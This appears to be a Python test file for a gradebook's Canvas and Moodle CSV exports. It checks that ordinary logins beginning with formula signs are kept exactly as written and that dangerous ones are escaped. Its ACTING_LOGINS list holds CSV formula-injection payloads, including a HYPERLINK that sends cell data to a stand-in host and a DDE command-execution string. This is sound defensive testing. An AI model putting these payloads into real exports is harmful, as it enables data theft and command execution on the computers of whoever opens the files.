"""Round 33: a login in an LMS export reaches the LMS exactly as it is known there.

The formula guard (app/gradebook._safe_cell) put an apostrophe before every cell starting with
+ - = @, the Canvas "SIS Login ID" and Moodle "Email address" cells included: Canvas matches a row
to its student by that login exactly, so "+zero@example.edu" came back as a student Canvas does not
know and the score was not imported. A login that can build no formula able to act now goes out as
written; one that could (a function call, a DDE link) is still made text.
"""

from __future__ import annotations

import csv
import io

import pytest

from tests.web.helpers import realistic_result
from tests.web.test_exports_canvas_round31 import canvas_reads

# seconds each: the fast lane stays under 10 minutes (stop 41)
pytestmark = pytest.mark.slow

SIGNED_LOGINS = ("+zero@example.edu", "-li@example.edu", "=eq@example.edu", "+a.b_c%d#e$f*g/h?i^j~k@example.edu",
                 "-王@example.edu")
ACTING_LOGINS = ('=HYPERLINK("http://evil.example/?"&A2)@example.edu', "=cmd|'/C calc'!A0@example.edu",
                 "+SUM(A1:A9)@example.edu", "@x[book]s!A1@example.edu", "=a,b@example.edu")


@pytest.fixture
def signed_class(client, web, course, factory):
    a = course["assignment"]
    students = {}
    for i, login in enumerate(SIGNED_LOGINS + ACTING_LOGINS):
        s = factory.student(email=login, name=f"Student {i}")
        web.grade(web.submit(s, a, audit=False, figure=False), realistic_result())
        students[login] = s
    web.login(client, course["teacher"])
    return students


def table(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def test_canvas_finds_a_student_whose_login_starts_with_a_formula_sign(client, signed_class):
    body = client.get("/instructor/gradebook.csv?a=attention&format=canvas").data
    read = canvas_reads(body, {login: login for login in SIGNED_LOGINS}, {})
    for login in SIGNED_LOGINS:
        assert login in read["grades"], f"Canvas did not find {login!r}"
        assert float(read["grades"][login][0]) > 0


def test_moodle_gets_a_login_starting_with_a_formula_sign_exactly(client, signed_class):
    rows = table(client.get("/instructor/gradebook.csv?a=attention&format=moodle").data)
    emails = {row[2] for row in rows[1:]}
    assert set(SIGNED_LOGINS) <= emails


@pytest.mark.parametrize("fmt", ["canvas", "moodle"])
def test_a_login_that_could_act_as_a_formula_is_still_made_text(client, signed_class, fmt):
    rows = table(client.get(f"/instructor/gradebook.csv?a=attention&format={fmt}").data)
    cells = {c for row in rows for c in row}
    for login in ACTING_LOGINS:
        assert login not in cells and "'" + login in cells, login


@pytest.mark.parametrize("login", SIGNED_LOGINS + ("alice@example.edu",))
def test_an_inert_login_is_written_as_it_is(login):
    from app.gradebook import _safe_login

    assert _safe_login(login) == login


@pytest.mark.parametrize("login", ACTING_LOGINS + ("\t=1@example.edu", " =1@example.edu", "\u200b=1@example.edu",
                                                   "＝eq@example.edu"))
def test_a_login_able_to_act_gets_the_apostrophe(login):
    from app.gradebook import _safe_login

    assert _safe_login(login) == "'" + login
